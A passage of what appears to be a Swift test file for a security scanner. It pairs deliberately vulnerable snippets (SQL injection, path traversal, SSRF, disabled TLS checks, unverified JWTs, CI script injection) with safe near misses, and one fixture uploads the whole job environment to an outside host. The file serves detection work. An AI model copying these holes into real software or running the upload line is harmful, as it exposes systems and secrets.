        // Certificate checks skipped by a setting whose default skips them.
        Example(
            "internal/acquirer/client.go",
            "type Config struct {\n\tTLSInsecure bool `envconfig:\"TLS_INSECURE\" default:\"true\"`\n}\n\n"
                + "func newClient(cfg Config) *http.Client {\n\treturn &http.Client{Transport: &http.Transport{\n"
                + "\t\tTLSClientConfig: &tls.Config{InsecureSkipVerify: cfg.TLSInsecure},\n\t}}\n}\n",
            "code.tls-verify-disabled"),
        Example(
            "internal/acquirer/client.go",
            "type Config struct {\n\tTLSInsecure bool `envconfig:\"TLS_INSECURE\" default:\"false\"`\n}\n\n"
                + "func newClient(cfg Config) *http.Client {\n\treturn &http.Client{Transport: &http.Transport{\n"
                + "\t\tTLSClientConfig: &tls.Config{InsecureSkipVerify: cfg.TLSInsecure},\n\t}}\n}\n",
            nil),
        // SpEL text evaluated with the full context, or the read-only one.
        Example(
            "src/main/kotlin/com/acme/RuleEvaluator.kt",
            "fun evaluate(rule: Rule, cart: Cart): Boolean {\n    val context = StandardEvaluationContext(cart)\n"
                + "    return parser.parseExpression(rule.expression).getValue(context, Boolean::class.java) ?: false\n}\n",
            "code.eval"),
        Example(
            "src/main/kotlin/com/acme/RuleEvaluator.kt",
            "fun evaluate(rule: Rule, cart: Cart): Boolean {\n"
                + "    val context = SimpleEvaluationContext.forReadOnlyDataBinding().build()\n"
                + "    return parser.parseExpression(rule.expression).getValue(context, cart, Boolean::class.java) ?: false\n}\n",
            nil),
    ])
    func batchThirtySixClasses(_ example: Example) { Self.check(example) }

    /// Classes of blind batch 37 (static-21), each with a near miss.
    @Test(arguments: [
        // Numbered placeholders made one by one are placeholders; quoted values are not.
        Example(
            "internal/orders/repo.go",
            "func (r *Repo) List(ctx context.Context, statuses []string) (pgx.Rows, error) {\n"
                + "\targs := []any{}\n\tph := make([]string, len(statuses))\n\tfor i, s := range statuses {\n"
                + "\t\targs = append(args, s)\n\t\tph[i] = \"$\" + strconv.Itoa(len(args))\n\t}\n"
                + "\tq := fmt.Sprintf(\"SELECT id FROM orders WHERE status IN (%s)\", strings.Join(ph, \", \"))\n"
                + "\treturn r.pool.Query(ctx, q, args...)\n}\n",
            nil),
        Example(
            "internal/orders/repo.go",
            "func (r *Repo) List(ctx context.Context, statuses []string) (pgx.Rows, error) {\n"
                + "\tph := make([]string, len(statuses))\n\tfor i, s := range statuses {\n"
                + "\t\tph[i] = \"'\" + s + \"'\"\n\t}\n"
                + "\tq := fmt.Sprintf(\"SELECT id FROM orders WHERE status IN (%s)\", strings.Join(ph, \", \"))\n"
                + "\treturn r.pool.Query(ctx, q)\n}\n",
            "code.sql-string-built"),
        // A number parsed from the request carries no path.
        Example(
            "src/routes/media.js",
            "router.get('/:id/poster.jpg', async (req, res) => {\n  const at = Number.parseFloat(req.query.t);\n"
                + "  const output = path.join(MEDIA_ROOT, 'posters', `${at}.jpg`);\n  res.sendFile(output);\n});\n",
            nil),
        Example(
            "src/routes/media.js",
            "router.get('/:id/poster.jpg', async (req, res) => {\n  const at = req.query.t;\n"
                + "  const output = path.join(MEDIA_ROOT, 'posters', `${at}.jpg`);\n  res.sendFile(output);\n});\n",
            "code.path-traversal"),
        // A constant table's entry picked by the request is a constant; the request's own text is not.
        Example(
            "app/models/article.rb",
            "class Article < ApplicationRecord\n  SORT_ORDERS = { \"newest\" => \"published_at DESC\" }.freeze\n\n"
                + "  def self.listed(params)\n"
                + "    order(Arel.sql(SORT_ORDERS.fetch(params[:sort].to_s, SORT_ORDERS[\"newest\"])))\n  end\nend\n",
            nil),
        Example(
            "app/models/article.rb",
            "class Article < ApplicationRecord\n  def self.listed(params)\n    order(Arel.sql(params[:sort].to_s))\n"
                + "  end\nend\n",
            "code.sql-string-built"),
        // A value passed by name binds; a Ruby block's opening line is judged alone.
        Example(
            "app/models/article.rb",
            "class Article < ApplicationRecord\n  scope :matching, lambda { |query|\n"
                + "    pattern = \"%#{sanitize_sql_like(query.to_s)}%\"\n"
                + "    where(\"articles.title ILIKE :q OR articles.summary ILIKE :q\", q: pattern)\n  }\nend\n",
            nil),
        // Rust's `-> &'static str` returns a constant; a string field does not.
        Example(
            "src/db/orders.rs",
            "impl OrderSort {\n    fn as_sql(self) -> &'static str {\n        match self {\n"
                + "            OrderSort::Newest => \"o.created_at DESC\",\n            OrderSort::Oldest => \"o.created_at ASC\",\n"
                + "        }\n    }\n}\n\npub fn list(qb: &mut QueryBuilder<Postgres>, filter: &Filter) {\n"
                + "    qb.push(format!(\" ORDER BY {}\", filter.sort.as_sql()));\n}\n",
            nil),
        Example(
            "src/db/orders.rs",
            "pub fn list(qb: &mut QueryBuilder<Postgres>, filter: &Filter) {\n"
                + "    qb.push(format!(\" ORDER BY {}\", filter.sort_column));\n}\n",
            "code.sql-string-built"),
        // Certificate checks on only when a variable opts in.
        Example(
            "internal/payments/psp/client.go",
            "func New(base string) *http.Client {\n\tverify := os.Getenv(\"PSP_VERIFY_TLS\") == \"true\"\n"
                + "\treturn &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{\n"
                + "\t\tInsecureSkipVerify: !verify,\n\t}}}\n}\n",
            "code.tls-verify-disabled"),
        Example(
            "internal/payments/psp/client.go",
            "func New(base string) *http.Client {\n\tverify := os.Getenv(\"PSP_VERIFY_TLS\") != \"false\"\n"
                + "\treturn &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{\n"
                + "\t\tInsecureSkipVerify: !verify,\n\t}}}\n}\n",
            nil),
        // js-yaml's full schema builds functions.
        Example(
            "lib/routes/pipelines.js",
            "const doc = Yaml.load(raw, { filename: 'pipeline.yml', schema: Yaml.DEFAULT_FULL_SCHEMA });\n",
            "code.yaml-unsafe-load"),
        Example(
            "lib/routes/pipelines.js",
            "const doc = Yaml.load(raw, { filename: 'pipeline.yml', schema: Yaml.JSON_SCHEMA });\n", nil),
        // A type check of one value checks that value alone.
        Example(
            "routes/auth/passwordReset.js",
            "router.post('/reset', async (req, res) => {\n  const { token, password = '' } = req.body;\n"
                + "  if (String(password).length < 10) return res.sendStatus(400);\n"
                + "  const user = await User.findOne({ resetToken: token });\n  res.json({ ok: !!user });\n});\n",
            "code.nosql-injection"),
        Example(
            "routes/auth/passwordReset.js",
            "router.post('/reset', async (req, res) => {\n  const token = String(req.body.token || '');\n"
                + "  const user = await User.findOne({ resetToken: token });\n  res.json({ ok: !!user });\n});\n",
            nil),
        // A handler named in a route takes the route's parameters; its signature laid out over lines.
        Example(
            "src/Billing.Api/Endpoints/StatementEndpoints.cs",
            "public static class StatementEndpoints\n{\n"
                + "    public static void Map(IEndpointRouteBuilder app)\n    {\n"
                + "        app.MapGet(\"/statements/{**path}\", DownloadStatement);\n    }\n\n"
                + "    private static IResult DownloadStatement(\n        string path,\n        HttpContext http)\n    {\n"
                + "        var fullPath = Path.Combine(Root, path);\n        return Results.File(fullPath, \"application/pdf\");\n"
                + "    }\n}\n",
            "code.path-traversal"),
        Example(
            "src/Billing.Api/Endpoints/StatementEndpoints.cs",
            "public static class StatementEndpoints\n{\n"
                + "    public static void Map(IEndpointRouteBuilder app)\n    {\n"
                + "        app.MapGet(\"/statements/{name}\", DownloadStatement);\n    }\n\n"
                + "    private static IResult DownloadStatement(\n        string name,\n        HttpContext http)\n    {\n"
                + "        var fullPath = Path.Combine(Root, Path.GetFileName(name));\n"
                + "        return Results.File(fullPath, \"application/pdf\");\n    }\n}\n",
            nil),
        // MyBatis's SQL builder takes SQL text.
        Example(
            "src/main/java/com/acme/billing/mapper/InvoiceSqlProvider.java",
            "public String search(InvoiceCriteria criteria) {\n    SQL sql = new SQL().SELECT(\"*\").FROM(\"invoices i\");\n"
                + "    String pattern = \"%\" + criteria.getReference() + \"%\";\n"
                + "    sql.WHERE(\"UPPER(i.reference) LIKE '\" + pattern + \"'\");\n    return sql.toString();\n}\n",
            "code.sql-string-built"),
        Example(
            "src/main/java/com/acme/billing/mapper/InvoiceSqlProvider.java",
            "public String search(InvoiceCriteria criteria) {\n    SQL sql = new SQL().SELECT(\"*\").FROM(\"invoices i\");\n"
                + "    sql.WHERE(\"UPPER(i.reference) LIKE #{pattern}\");\n    return sql.toString();\n}\n",
            nil),
        // A client whose request call stands on the line below it; a method of the object itself.
        Example(
            "src/routes/integrations.rs",
            "async fn test_target(State(state): State<AppState>, Json(body): Json<TestTarget>) -> Result<String> {\n"
                + "    probe(&state.http, &body.target_url).await\n}\n\n"
                + "async fn probe(client: &reqwest::Client, target: &str) -> Result<String> {\n    let resp = client\n"
                + "        .request(Method::POST, target)\n        .send()\n        .await?;\n    Ok(resp.text().await?)\n}\n",
            "code.ssrf"),
        Example(
            "app/Http/Controllers/InvoiceController.php",
            "<?php\nclass InvoiceController {\n    private function exportOrder(Request $request): string\n    {\n"
                + "        $column = $request->query('sort', 'issued_at');\n        return \"{$column} asc\";\n    }\n\n"
                + "    public function export(Request $request)\n    {\n"
                + "        return Invoice::query()->orderByRaw($this->exportOrder($request))->get();\n    }\n}\n",
            "code.sql-string-built"),
        Example(
            "app/Http/Controllers/InvoiceController.php",
            "<?php\nclass InvoiceController {\n    private function exportOrder(): string\n    {\n"
                + "        return 'issued_at asc';\n    }\n\n    public function export(Request $request)\n    {\n"
                + "        return Invoice::query()->orderByRaw($this->exportOrder())->get();\n    }\n}\n",
            nil),
    ])
    func batchThirtySevenClasses(_ example: Example) { Self.check(example) }

    /// Classes of blind batch 38 (static-22: deployment and configuration files), each with a near miss.
    @Test(arguments: [
        Example(
            "azure-pipelines.yml",
            "steps:\n  - bash: |\n      msg=\"$(Build.SourceVersionMessage)\"\n      echo \"$msg\"\n", "ci.script-injection"),
        Example(
            "azure-pipelines.yml",
            "steps:\n  - bash: |\n      echo \"$MSG\"\n    env:\n      MSG: $(Build.SourceVersionMessage)\n", nil),
        Example(
            "bitbucket-pipelines.yml",
            "pipelines:\n  default:\n    - step:\n        script:\n"
                + "          - kubectl config set-cluster prod --server=\"$KUBE_API_SERVER\" --insecure-skip-tls-verify=true\n",
            "code.tls-verify-disabled"),
        Example(
            "bitbucket-pipelines.yml",
            "pipelines:\n  default:\n    - step:\n        script:\n"
                + "          - kubectl config set-cluster prod --server=\"$KUBE_API_SERVER\" --certificate-authority=ca.pem\n",
            nil),
        Example(
            "deploy/staging/docker-compose.yml",
            "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_HOST_AUTH_METHOD: trust\n",
            "infra.database-without-password"),
        Example(
            "deploy/staging/docker-compose.yml",
            "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_HOST_AUTH_METHOD: scram-sha-256\n"
                + "      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\n",
            nil),
        Example(
            "deploy/helm/monitoring/values.yaml",
            "grafana:\n  grafana.ini:\n    auth.anonymous:\n      enabled: true\n      org_role: Admin\n",
            "infra.anonymous-admin"),
        Example(
            "deploy/helm/monitoring/values.yaml",
            "grafana:\n  grafana.ini:\n    auth.anonymous:\n      enabled: true\n      org_role: Viewer\n"
                + "    users:\n      auto_assign_org_role: Editor\n",
            nil),
        Example(
            "deploy/k8s/rbac.yaml",
            "kind: ClusterRoleBinding\nmetadata:\n  name: ci-deployer\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\n",
            "infra.cluster-admin-binding"),
        Example(
            "deploy/k8s/rbac.yaml",
            "kind: RoleBinding\nmetadata:\n  name: ci-deployer\nroleRef:\n  kind: Role\n  name: deployer\n", nil),
        Example(
            "Jenkinsfile",
            "stage('Announce') {\n  steps {\n    sh \"\"\"\n      ./notify.sh \"${env.PR_TITLE}\"\n    \"\"\"\n  }\n}\n",
            "ci.script-injection"),
        Example(
            "Jenkinsfile",
            "stage('Announce') {\n  steps {\n    sh '''\n      ./notify.sh \"$PR_TITLE\"\n    '''\n  }\n}\n", nil),
        Example(
            "config/application.rb",
            "module App\n  class Application < Rails::Application\n"
                + "    config.active_record.use_yaml_unsafe_load = true\n  end\nend\n",
            "code.yaml-unsafe-load"),
        Example(
            "config/application.rb",
            "module App\n  class Application < Rails::Application\n"
                + "    config.active_record.yaml_column_permitted_classes = [Symbol, Date]\n  end\nend\n",
            nil),
        Example(
            "src/main/resources/application.yml",
            "management:\n  endpoint:\n    env:\n      show-values: ALWAYS\n", "infra.actuator-exposed"),
        Example(
            "src/main/resources/application.yml",
            "management:\n  endpoint:\n    env:\n      show-values: WHEN_AUTHORIZED\n", nil),
        Example(
            "infra/modules/exports/main.tf",
            "resource \"aws_s3_bucket_public_access_block\" \"exports\" {\n  bucket = aws_s3_bucket.exports.id\n"
                + "  block_public_policy     = false\n  restrict_public_buckets = false\n}\n",
            "infra.public-bucket"),
        Example(
            "infra/modules/exports/main.tf",
            "resource \"aws_s3_bucket_public_access_block\" \"exports\" {\n  bucket = aws_s3_bucket.exports.id\n"
                + "  block_public_policy     = true\n  restrict_public_buckets = true\n}\n",
            nil),
        Example(
            "Sources/App/Controllers/AttachmentController.swift",
            "func download(req: Request) async throws -> Response {\n"
                + "    let rendition = req.query[String.self, at: \"rendition\"] ?? \"original\"\n"
                + "    let path = storageRoot + \"/\" + rendition\n    return req.fileio.streamFile(at: path)\n}\n",
            "code.path-traversal"),
        Example(
            "Sources/App/Repositories/AuditLogRepository.swift",
            "func search(_ query: AuditQuery) async throws -> [AuditEvent] {\n"
                + "    try await sql.raw(\"SELECT id FROM audit_events WHERE action = \\(bind: query.action)\")"
                + ".all(decoding: AuditEvent.self)\n}\n",
            nil),
    ])
    func batchThirtyEightClasses(_ example: Example) { Self.check(example) }

    /// Classes of blind batch 39 (static-23), each with a near miss.
    @Test(arguments: [
        Example(
            "Sources/App/Repositories/RowRepository.swift",
            "func list(req: Request) async throws -> [Row] {\n    let (column, direction): (String, String)\n"
                + "    switch try req.query.get(Sort.self, at: \"sort\") {\n"
                + "    case .newest: (column, direction) = (\"created_at\", \"DESC\")\n"
                + "    case .oldest: (column, direction) = (\"created_at\", \"ASC\")\n    }\n"
                + "    return try await sql.raw(\"SELECT id FROM rows ORDER BY \\(unsafeRaw: column) "
                + "\\(unsafeRaw: direction)\").all(decoding: Row.self)\n}\n",
            nil),
        Example(
            "Sources/App/Repositories/RowRepository.swift",
            "func list(req: Request) async throws -> [Row] {\n"
                + "    let column = req.query[String.self, at: \"sort\"] ?? \"created_at\"\n"
                + "    return try await sql.raw(\"SELECT id FROM rows ORDER BY \\(unsafeRaw: column)\")"
                + ".all(decoding: Row.self)\n}\n",
            "code.sql-string-built"),
        Example(
            "Sources/App/Controllers/DocumentsController.swift",
            "enum Rendition: String, Decodable {\n    case source, thumbnail\n}\n\n"
                + "func file(req: Request) async throws -> Response {\n    let rendition: Rendition\n"
                + "    rendition = try req.query.get(Rendition.self, at: \"size\")\n"
                + "    return req.fileio.streamFile(at: root + \"/\" + rendition.rawValue)\n}\n",
            nil),
        Example(
            "Sources/App/Controllers/DocumentsController.swift",
            "func file(req: Request) async throws -> Response {\n"
                + "    let rendition: String = req.query[String.self, at: \"size\"] ?? \"source\"\n"
                + "    return req.fileio.streamFile(at: root + \"/\" + rendition)\n}\n",
            "code.path-traversal"),
        Example(
            "src/main/kotlin/app/routes/AuthRoutes.kt",
            "private fun backTo(call: ApplicationCall): String {\n"
                + "    val target = call.request.queryParameters[\"continue\"] ?: return \"/\"\n"
                + "    return if (target.startsWith(\"/\")) target else \"/\"\n}\n\n"
                + "fun Route.logout() {\n    get(\"/logout\") {\n        call.respondRedirect(backTo(call))\n    "
                + "}\n}\n",
            "code.open-redirect"),
        Example(
            "src/main/kotlin/app/routes/AuthRoutes.kt",
            "private fun backTo(call: ApplicationCall): String {\n"
                + "    val target = call.request.queryParameters[\"continue\"] ?: return \"/\"\n"
                + "    return if (target.startsWith(\"/\") && !target.startsWith(\"//\")) target else \"/\"\n}\n\n"
                + "fun Route.logout() {\n    get(\"/logout\") {\n        call.respondRedirect(backTo(call))\n    "
                + "}\n}\n",
            nil),
        Example(
            "src/handlers/session.rs",
            "#[post(\"/login\")]\npub async fn login(form: web::Form<LoginForm>) -> impl Responder {\n"
                + "    HttpResponse::SeeOther()\n        .insert_header((LOCATION, form.next.clone()))\n"
                + "        .finish()\n}\n",
            "code.open-redirect"),
        Example(
            "src/auth/routes.js",
            "function localTarget(raw) {\n  const target = new URL(raw, config.appOrigin);\n"
                + "  if (target.origin !== config.appOrigin) return '/';\n  return target.pathname;\n}\n\n"
                + "router.get('/callback', (req, res) => {\n  res.redirect(localTarget(req.query.next));\n});\n",
            nil),
        Example(
            "src/main/java/app/OrderRepository.java",
            "class OrderRepository {\n    private static String orderBy(String key) {\n"
                + "        String column = SORT_COLUMNS.getOrDefault(key, \"created_at\");\n"
                + "        return \" ORDER BY \" + column + \" DESC\";\n    }\n\n"
                + "    List<Order> search(String sort) {\n"
                + "        String sql = BASE_SQL + orderBy(sort) + \" LIMIT 50\";\n"
                + "        return jdbc.query(sql, mapper);\n    }\n}\n",
            nil),
        Example(
            "src/main/java/app/OrderRepository.java",
            "class OrderRepository {\n    private static String orderBy(String key) {\n"
                + "        return \" ORDER BY \" + key + \" DESC\";\n    }\n\n"
                + "    List<Order> search(String sort) {\n"
                + "        String sql = BASE_SQL + orderBy(sort) + \" LIMIT 50\";\n"
                + "        return jdbc.query(sql, mapper);\n    }\n}\n",
            "code.sql-string-built"),
        Example(
            "app/controllers/orders_controller.rb",
            "class OrdersController < ApplicationController\n  def index\n"
                + "    @orders = Order.order(Arel.sql(\"#{SORTS.fetch(params[:sort], 'placed_at')} #{direction}\"))\n"
                + "  end\n\n  def direction\n    params[:dir] == \"asc\" ? \"ASC\" : \"DESC\"\n  end\nend\n",
            nil),
        Example(
            "app/controllers/orders_controller.rb",
            "class OrdersController < ApplicationController\n  def index\n"
                + "    @orders = Order.order(Arel.sql(\"placed_at #{direction}\"))\n"
                + "  end\n\n  def direction\n    params[:dir]\n  end\nend\n",
            "code.sql-string-built"),
        Example(
            "internal/media/avatars.go",
            "var presets = map[string]preset{\n\t\"sm\": {suffix: \"64\"},\n\t\"lg\": {suffix: \"256\"},\n}\n\n"
                + "func (a *API) Avatar(c *gin.Context) {\n\tp, ok := presets[c.DefaultQuery(\"size\", \"lg\")]\n"
                + "\tif !ok {\n\t\treturn\n\t}\n\tc.File(filepath.Join(a.CacheDir, p.suffix+\".webp\"))\n}\n",
            nil),
        Example(
            "internal/media/avatars.go",
            "func (a *API) Avatar(c *gin.Context) {\n\tsize := c.DefaultQuery(\"size\", \"lg\")\n"
                + "\tc.File(filepath.Join(a.CacheDir, size+\".webp\"))\n}\n",
            "code.path-traversal"),
        Example(
            "src/listings/repo.rs",
            "pub async fn search(pool: &PgPool, text: &str) -> sqlx::Result<Vec<Listing>> {\n"
                + "    let mut qb: QueryBuilder<Postgres> = QueryBuilder::new(\"SELECT id FROM listings WHERE "
                + "true\");\n"
                + "    qb.push(\" AND title ILIKE '%\")\n        .push(text)\n        .push(\"%'\");\n"
                + "    qb.build_query_as::<Listing>().fetch_all(pool).await\n}\n",
            "code.sql-string-built"),
        Example(
            "src/listings/repo.rs",
            "pub async fn search(pool: &PgPool, text: &str) -> sqlx::Result<Vec<Listing>> {\n"
                + "    let mut qb: QueryBuilder<Postgres> = QueryBuilder::new(\"SELECT id FROM listings WHERE "
                + "true\");\n"
                + "    qb.push(\" AND title ILIKE \")\n        .push_bind(format!(\"%{text}%\"));\n"
                + "    qb.build_query_as::<Listing>().fetch_all(pool).await\n}\n",
            nil),
        Example(
            "src/main/kotlin/app/TicketSearch.kt",
            "class TicketSearch(private val em: EntityManager) {\n    private fun textFilter(text: String): String {\n"
                + "        val needle = text.trim().lowercase()\n"
                + "        return \" and (lower(t.subject) like '%$needle%')\"\n    }\n}\n",
            "code.sql-string-built"),
        Example(
            "src/main/kotlin/app/TicketSearch.kt",
            "class TicketSearch(private val em: EntityManager) {\n    private fun textFilter(): String {\n"
                + "        return \" and (lower(t.subject) like :needle)\"\n    }\n}\n",
            nil),
        Example(
            "Sources/App/Controllers/ExportController.swift",
            "@Sendable func download(_ request: Request, context: Context) async throws -> Response {\n"
                + "    guard let file = request.uri.queryParameters.get(\"file\") else { throw HTTPError(.badRequest) "
                + "}\n"
                + "    let url = exportsRoot.appendingPathComponent(file)\n"
                + "    let data = FileManager.default.contents(atPath: url.path)\n    return Response(data)\n}\n",
            "code.path-traversal"),
        Example(
            "Sources/App/Controllers/ExportController.swift",
            "@Sendable func download(_ request: Request, context: Context) async throws -> Response {\n"
                + "    guard let format = request.uri.queryParameters.get(\"format\") else { throw "
                + "HTTPError(.badRequest) }\n"
                + "    let url = exportsRoot.appendingPathComponent(\"latest.csv\")\n"
                + "    let data = FileManager.default.contents(atPath: url.path)\n    return Response(data, "
                + "format)\n}\n",
            nil),
        Example(
            "Endpoints/PreviewEndpoints.cs",
            "public static class PreviewEndpoints\n{\n    public static void Map(IEndpointRouteBuilder app)\n    {\n"
                + "        app.MapPost(\"/previews\", Create);\n    }\n\n"
                + "    private static async Task<string> Create(PreviewRequest body, IHttpClientFactory http)\n    {\n"
                + "        if (!Uri.TryCreate(body.Url, UriKind.Absolute, out var target)) return \"\";\n"
                + "        return await http.CreateClient(\"previews\").GetStringAsync(target);\n    }\n}\n",
            "code.ssrf"),
        Example(
            "Endpoints/PreviewEndpoints.cs",
            "public static class PreviewEndpoints\n{\n    public static void Map(IEndpointRouteBuilder app)\n    {\n"
                + "        app.MapPost(\"/previews\", Create);\n    }\n\n"
                + "    private static async Task<string> Create(PreviewRequest body, IHttpClientFactory http)\n    {\n"
                + "        if (!Uri.TryCreate(body.Url, UriKind.Absolute, out var target)) return \"\";\n"
                + "        if (!AllowedHosts.Contains(target.Host)) return \"\";\n"
                + "        return await http.CreateClient(\"previews\").GetStringAsync(target);\n    }\n}\n",
            nil),
        Example(
            "Caddyfile",
            "shop.example.com {\n\treverse_proxy https://rates.partner.example {\n\t\ttransport http {\n"
                + "\t\t\ttls_insecure_skip_verify\n\t\t}\n\t}\n}\n",
            "code.tls-verify-disabled"),
        Example(
            "Caddyfile",
            "shop.example.com {\n\treverse_proxy https://rates.partner.example {\n\t\ttransport http {\n"
                + "\t\t\ttls_trusted_ca_certs /etc/caddy/partner-ca.pem\n\t\t}\n\t}\n}\n",
            nil),
        Example(
            "Dockerfile",
            "FROM node:20-slim\nARG GIT_SSH_KEY\n"
                + "RUN mkdir -p /root/.ssh && printf '%s\\n' \"$GIT_SSH_KEY\" > /root/.ssh/id_ed25519 && npm ci\n",
            "docker.build-secret-in-image"),
        Example(
            "Dockerfile",
            "FROM node:20-slim\nRUN --mount=type=ssh npm ci\n", nil),
        Example(
            "Jenkinsfile",
            "def changelogCmd(String title) {\n    return \"node changelog.mjs --title '${title}'\"\n}\n\n"
                + "pipeline {\n  stages {\n    stage('Preview') {\n      steps {\n"
                + "        sh changelogCmd(env.CHANGE_TITLE)\n      }\n    }\n  }\n}\n",
            "ci.script-injection"),
        Example(
            "Jenkinsfile",
            "pipeline {\n  stages {\n    stage('Preview') {\n      steps {\n"
                + "        sh 'node changelog.mjs --title \"$CHANGE_TITLE\"'\n      }\n    }\n  }\n}\n",
            nil),
        Example(
            "deploy/nginx/shop.conf",
            "server {\n    location /build {\n        alias /srv/shop/storage/build/;\n    }\n}\n",
            "infra.nginx-alias-traversal"),
        Example(
            "deploy/nginx/shop.conf",
            "server {\n    location /build/ {\n        alias /srv/shop/storage/build/;\n    }\n}\n", nil),
        Example(
            "Auth/AuthenticationSetup.cs",
            "options.TokenValidationParameters.SignatureValidator =\n    (token, _) => new JsonWebToken(token);\n",
            "code.jwt-unverified"),
        Example(
            "Auth/AuthenticationSetup.cs",
            "options.TokenValidationParameters.IssuerSigningKeys = legacyKeys.Concat(currentKeys);\n", nil),
        Example(
            "src/Notification/MessageRenderer.php",
            "<?php\nclass MessageRenderer {\n    public function render(Override $override, array $context): string\n"
                + "    {\n        return $this->twig->createTemplate($override->getBody())->render($context);\n    "
                + "}\n}\n",
            "code.template-injection"),
        Example(
            "src/Notification/MessageRenderer.php",
            "<?php\nuse Twig\\Extension\\SandboxExtension;\nclass MessageRenderer {\n"
                + "    public function render(Override $override, array $context): string\n    {\n"
                + "        $this->twig->addExtension(new SandboxExtension($this->policy, true));\n"
                + "        return $this->twig->createTemplate($override->getBody())->render($context);\n    }\n}\n",
            nil),
        Example(
            "Sources/App/configure.swift",
            "var tls = TLSConfiguration.makeClientConfiguration()\n"
                + "tls.certificateVerification = Environment.get(\"STRICT_TLS\") == \"1\"\n"
                + "    ? .fullVerification\n    : .none\n",
            "code.tls-verify-disabled"),
        Example(
            "Sources/App/configure.swift",
            "var tls = TLSConfiguration.makeClientConfiguration()\n"
                + "tls.certificateVerification = Environment.get(\"INSECURE_TLS\") == \"1\"\n"
                + "    ? .none\n    : .fullVerification\n",
            nil),
        Example(
            "ci/collect-diagnostics.sh",
            "#!/usr/bin/env bash\nset -euo pipefail\nprintenv | sort > \"$OUT/job-env.txt\"\n"
                + "tar -C \"$OUT\" -czf diag.tgz .\n\nshare() {\n"
                + "  curl -sS --upload-file diag.tgz \"https://files.example.net/diag.tgz\"\n}\nshare\n",
            "ci.secrets-exfiltration"),
        Example(
            "ci/collect-diagnostics.sh",
            "#!/usr/bin/env bash\nset -euo pipefail\nprintenv | grep '^APP_' > \"$OUT/job-env.txt\"\n"
                + "tar -C \"$OUT\" -czf diag.tgz .\n\nshare() {\n"
                + "  curl -sS --upload-file diag.tgz \"https://files.example.net/diag.tgz\"\n}\nshare\n",
            nil),
        Example(
            "pages/api/admin/export.ts",
            "// verify() kept failing after key rotation, so just read the claims here.\n"
                + "function readClaims(token: string) {\n  return jwt.decode(token) as AdminClaims | null;\n}\n\n"
                + "export default function handler(req, res) {\n"
                + "  const claims = readClaims(req.headers.authorization?.slice(7) ?? '');\n"
                + "  if (claims?.role !== 'admin') return res.status(403).end();\n  "
                + "res.json(exportUsers(claims.org));\n}\n",
            "code.jwt-unverified"),
        Example(
            "pages/api/admin/export.ts",
            "function readClaims(token: string) {\n"
                + "  return jwt.verify(token, process.env.ADMIN_JWT_SECRET!, { algorithms: ['HS256'] }) as "
                + "AdminClaims;\n"
                + "}\n\nexport default function handler(req, res) {\n"
                + "  const claims = readClaims(req.headers.authorization?.slice(7) ?? '');\n"
                + "  if (claims.role !== 'admin') return res.status(403).end();\n  "
                + "res.json(exportUsers(claims.org));\n}\n",
            nil),
    ])
    func batchThirtyNineClasses(_ example: Example) { Self.check(example) }

    /// Classes of blind batch 40 (static-24), each with a near miss.
    @Test(arguments: [
        Example(
            "profiles/views.py",
            "GRAVATAR_BASE = \"https://www.gravatar.com/avatar/\"\n\n\n"
                + "async def avatar(request):\n    digest = request.query.get(\"d\", \"\")\n"
                + "    async with session.get(f\"{GRAVATAR_BASE}{digest}?s=64\") as upstream:\n"
                + "        return web.Response(body=await upstream.read())\n",
            nil),
        Example(
            "profiles/views.py",
            "async def avatar(request):\n    base = request.query.get(\"mirror\", "
                + "\"https://www.gravatar.com/avatar/\")\n"
                + "    async with session.get(f\"{base}{request.query['d']}\") as upstream:\n"
                + "        return web.Response(body=await upstream.read())\n",
            "code.ssrf"),
        Example(
            "reports/views.py",
            "REPORT_SQL = \"SELECT sku FROM sales ORDER BY {order_by} {direction}\"\n"
                + "SORT_COLUMNS = {\"revenue\": \"revenue\", \"sku\": \"p.sku\"}\n\n\ndef _ordering(request):\n"
                + "    order_by = SORT_COLUMNS.get(request.GET.get(\"sort\"), \"revenue\")\n"
                + "    direction = \"ASC\" if request.GET.get(\"dir\") == \"asc\" else \"DESC\"\n"
                + "    return order_by, direction\n\n\ndef report(request):\n"
                + "    order_by, direction = _ordering(request)\n"
                + "    cursor.execute(REPORT_SQL.format(order_by=order_by, direction=direction), [request.user.id])\n",
            nil),
        Example(
            "reports/views.py",
            "REPORT_SQL = \"SELECT sku FROM sales ORDER BY {order_by} {direction}\"\n\n\n"
                + "def _ordering(request):\n    order_by = request.GET.get(\"sort\", \"revenue\")\n"
                + "    return order_by, \"DESC\"\n\n\ndef report(request):\n"
                + "    order_by, direction = _ordering(request)\n"
                + "    cursor.execute(REPORT_SQL.format(order_by=order_by, direction=direction), [request.user.id])\n",
            "code.sql-string-built"),
        Example(
            "deploy/k8s/web.yaml",
            "spec:\n  volumes:\n    - name: tls\n      secret: {secretName: web-tls, defaultMode: 0440}\n", nil),
        Example("config/billing.yaml", "billing:\n  api_keys: [Zq7rL9mXw2pT4vBnQ8, Hk3sW7dLp2Vx9cMn]\n", "secret.generic-assignment"),
        Example(
            "deploy/k8s/web.yaml",
            "spec:\n  containers:\n    - name: web\n      env:\n        - name: DB\n          value: x\n"
                + "      db_password: Zq7rL9mXw2pT4vBn\n",
            "secret.generic-assignment"),
        Example(
            "Sources/App/Routes/PreviewRoutes.swift",
            "struct UnfurlRequest: Decodable { var url: String }\n\n"
                + "func addRoutes(to previews: RouterGroup<Context>) {\n    previews.post { request, context in\n"
                + "        let input = try await request.decode(as: UnfurlRequest.self, context: context)\n"
                + "        let fetch = HTTPClientRequest(url: input.url)\n"
                + "        return try await HTTPClient.shared.execute(fetch, timeout: .seconds(5))\n    }\n}\n",
            "code.ssrf"),
        Example(
            "Sources/App/Routes/PreviewRoutes.swift",
            "struct UnfurlRequest: Decodable { var url: String }\n\n"
                + "func addRoutes(to previews: RouterGroup<Context>) {\n    previews.post { request, context in\n"
                + "        let input = try await request.decode(as: UnfurlRequest.self, context: context)\n"
                + "        let fetch = HTTPClientRequest(url: \"https://unfurl.internal.example/v1\")\n"
                + "        return try await HTTPClient.shared.execute(fetch, timeout: .seconds(5))\n    }\n}\n",
            nil),
        Example(
            "src/main/java/app/AttachmentController.java",
            "class AttachmentController {\n    @GetMapping(\"/attachments\")\n"
